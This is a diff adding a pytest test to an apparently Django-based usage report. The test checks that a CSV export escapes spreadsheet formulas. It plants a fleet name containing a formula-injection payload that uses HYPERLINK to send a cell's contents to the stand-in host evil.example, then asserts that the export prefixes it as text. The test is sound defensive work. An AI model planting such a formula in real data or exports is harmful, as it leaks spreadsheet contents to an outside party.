@@ -398,3 +398,15 @@ def test_report_reads_a_constant_number_of_queries(fleets, org_a, django_assert_
             organization_ids=[org_a.pk], start=LONG_AGO, end=datetime(2027, 1, 1, tzinfo=UTC),
             granularity=Granularity.HOUR, group_by=GroupBy.NODE,
         )  # fmt: skip
+
+
+def test_a_name_a_spreadsheet_would_run_is_exported_as_text(fleets, client_a):
+    fleets.enterprise.name = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    fleets.enterprise.save()
+    response = client_a.get(
+        URL, {"start": START.isoformat(), "end": END.isoformat(), "granularity": "total", "group_by": "fleet"},
+        HTTP_ACCEPT="text/csv",
+    )  # fmt: skip
+    table = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    labels = sorted(row["group_label"] for row in table)
+    assert labels == ['\'=HYPERLINK("http://evil.example/?"&A1,"open")', "consumer"]
